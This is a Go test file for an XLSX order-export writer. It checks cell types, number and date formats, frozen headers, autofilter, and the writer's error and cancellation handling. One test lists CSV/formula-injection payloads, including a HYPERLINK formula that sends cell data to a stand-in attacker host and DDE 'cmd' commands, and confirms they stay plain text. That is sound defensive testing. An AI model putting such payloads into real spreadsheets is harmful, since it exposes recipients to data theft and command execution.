package xlsx_test

import (
	"bytes"
	"context"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/postdesk/postdesk/admin/docs/xlsx"
)

func TestExportTypesAndLayout(t *testing.T) {
	t.Parallel()
	kyiv, err := time.LoadLocation("Europe/Kyiv")
	require.NoError(t, err)
	created := time.Date(2026, 11, 22, 8, 15, 30, 0, time.UTC) // 10:15:30 in Kyiv
	weight := int64(1250)

	var buf bytes.Buffer
	w, err := xlsx.NewWriter(&buf, "Замовлення", kyiv)
	require.NoError(t, err)
	require.NoError(t, w.SetColumns([]xlsx.Column{
		{Title: "Номер", Kind: xlsx.Text, Width: 16},
		{Title: "Вага, г", Kind: xlsx.Int},
		{Title: "Вартість", Kind: xlsx.Money},
		{Title: "Створено", Kind: xlsx.DateTime},
		{Title: "Доставлено", Kind: xlsx.Date},
		{Title: "Оплачено", Kind: xlsx.Bool},
	}))
	ctx := context.Background()
	require.NoError(t, w.WriteRow(ctx, "ORD-1", &weight, int64(123450), created, created, true))
	require.NoError(t, w.WriteRow(ctx, "ORD-2", 700, int64(-5), time.Time{}, nil, false))
	require.Equal(t, 2, w.Rows())
	require.NoError(t, w.Close())

	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	require.NoError(t, err)
	defer f.Close()
	const sheet = "Замовлення"

	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	require.NoError(t, err)
	require.Equal(t, []string{"Номер", "Вага, г", "Вартість", "Створено", "Доставлено", "Оплачено"}, rows[0])

	// Header in bold.
	styleID, err := f.GetCellStyle(sheet, "A1")
	require.NoError(t, err)
	style, err := f.GetStyle(styleID)
	require.NoError(t, err)
	require.True(t, style.Font.Bold)

	numFmt := func(cell string) int {
		id, err := f.GetCellStyle(sheet, cell)
		require.NoError(t, err)
		s, err := f.GetStyle(id)
		require.NoError(t, err)
		return s.NumFmt
	}
	cellType := func(cell string) excelize.CellType {
		ct, err := f.GetCellType(sheet, cell)
		require.NoError(t, err)
		return ct
	}
	raw := func(cell string) string {
		v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		return v
	}

	// Numbers are numbers.
	require.Contains(t, []excelize.CellType{excelize.CellTypeNumber, excelize.CellTypeUnset}, cellType("B2"))
	require.Equal(t, "1250", raw("B2"))
	require.Equal(t, "700", raw("B3"))

	// Money: a number with two decimals shown.
	require.Equal(t, "1234.5", raw("C2"))
	require.Equal(t, 4, numFmt("C2")) // #,##0.00
	shown, err := f.GetCellValue(sheet, "C2")
	require.NoError(t, err)
	require.Equal(t, "1,234.50", shown)
	require.Equal(t, "-0.05", raw("C3"))

	// Date-times: serial numbers with a date format, in Kyiv wall-clock time.
	require.Equal(t, 22, numFmt("D2"))
	serial, err := strconv.ParseFloat(raw("D2"), 64)
	require.NoError(t, err)
	got, err := excelize.ExcelDateToTime(serial, false)
	require.NoError(t, err)
	require.Equal(t, "2026-11-22 10:15:30", got.Round(time.Second).Format(time.DateTime))
	require.Empty(t, raw("D3"), "zero time is an empty cell")

	// Dates: whole day numbers with a date format.
	require.Equal(t, 14, numFmt("E2"))
	day, err := strconv.Atoi(raw("E2"))
	require.NoError(t, err, "a date is a whole number")
	got, err = excelize.ExcelDateToTime(float64(day), false)
	require.NoError(t, err)
	require.Equal(t, "2026-11-22", got.Format(time.DateOnly))

	require.Equal(t, excelize.CellTypeBool, cellType("F2"))
	require.Equal(t, "1", raw("F2"))

	// Text columns are formatted as text.
	require.Equal(t, 49, numFmt("A2"))

	// Frozen header row.
	panes, err := f.GetPanes(sheet)
	require.NoError(t, err)
	require.True(t, panes.Freeze)
	require.Equal(t, 1, panes.YSplit)
	require.Equal(t, "A2", panes.TopLeftCell)

	// Autofilter over the header and the data below it.
	// excelize writes the range with $ signs, as Excel accepts; either form covers A1:F3.
	sheetXML := strings.ReplaceAll(zipEntry(t, buf.Bytes(), "xl/worksheets/sheet1.xml"), "$", "")
	require.Contains(t, sheetXML, `<autoFilter ref="A1:F3"`)
	// <col> elements ascending, or Excel offers to repair the file.
	require.Regexp(t, `<cols><col min="1" max="1"[^>]*/><col min="2"`, sheetXML)
	names := f.GetDefinedName()
	require.Len(t, names, 1)
	require.Equal(t, "_xlnm._FilterDatabase", names[0].Name)

	width, err := f.GetColWidth(sheet, "A")
	require.NoError(t, err)
	require.Equal(t, 16.0, width)
}

func TestExportFormulaInjectionStaysText(t *testing.T) {
	t.Parallel()
	evil := []string{
		`=1+1`,
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		`+380501234567`,
		`-2+3`,
		`@SUM(A1:A2)`,
		"\t=cmd|' /C calc'!A0",
		"\r=1+2",
		`=cmd|' /C calc'!A0`,
	}
	rows := make([][]any, len(evil))
	for i, s := range evil {
		rows[i] = []any{s}
	}
	file := export(t, textColumns("Коментар"), rows...)

	f, err := excelize.OpenReader(bytes.NewReader(file))
	require.NoError(t, err)
	defer f.Close()
	for i, s := range evil {
		cell := "A" + strconv.Itoa(i+2)
		formula, err := f.GetCellFormula("Orders", cell)
		require.NoError(t, err)
		require.Empty(t, formula, "%q must not become a formula", s)
		ct, err := f.GetCellType("Orders", cell)
		require.NoError(t, err)
		require.Contains(t, []excelize.CellType{excelize.CellTypeInlineString, excelize.CellTypeSharedString}, ct, "%q", s)
		v, err := f.GetCellValue("Orders", cell)
		require.NoError(t, err)
		require.Equal(t, s, v)
	}
	require.NotContains(t, zipEntry(t, file, "xl/worksheets/sheet1.xml"), "<f>")
}

func TestWriterRefusesWrongValues(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	var buf bytes.Buffer
	w, err := xlsx.NewWriter(&buf, "Orders", nil)
	require.NoError(t, err)
	require.NoError(t, w.SetColumns([]xlsx.Column{{Title: "Вага", Kind: xlsx.Int}, {Title: "Сума", Kind: xlsx.Money}}))
	require.NoError(t, w.WriteRow(ctx, 1, int64(100)))
	err = w.WriteRow(ctx, 1, 1.5) // money must be minor units, not a float
	require.ErrorContains(t, err, `row 3, column "Сума": float64 is not a money value`)
	require.Equal(t, err, w.WriteRow(ctx, 1, int64(1)), "errors are sticky")
	require.Equal(t, err, w.Close())
	require.Zero(t, buf.Len(), "nothing is written after an error")

	w, err = xlsx.NewWriter(&buf, "Orders", nil)
	require.NoError(t, err)
	require.NoError(t, w.SetColumns(textColumns("A", "B")))
	require.ErrorContains(t, w.WriteRow(ctx, "only one"), "1 values for 2 columns")
	require.Error(t, w.Close())
}

func TestWriterStopsWhenContextEnds(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(context.Background())
	var buf bytes.Buffer
	w, err := xlsx.NewWriter(&buf, "Orders", nil)
	require.NoError(t, err)
	require.NoError(t, w.SetColumns(textColumns("A")))
	require.NoError(t, w.WriteRow(ctx, "x"))
	cancel()
	require.ErrorIs(t, w.WriteRow(ctx, "y"), context.Canceled)
	require.ErrorIs(t, w.Close(), context.Canceled)
}
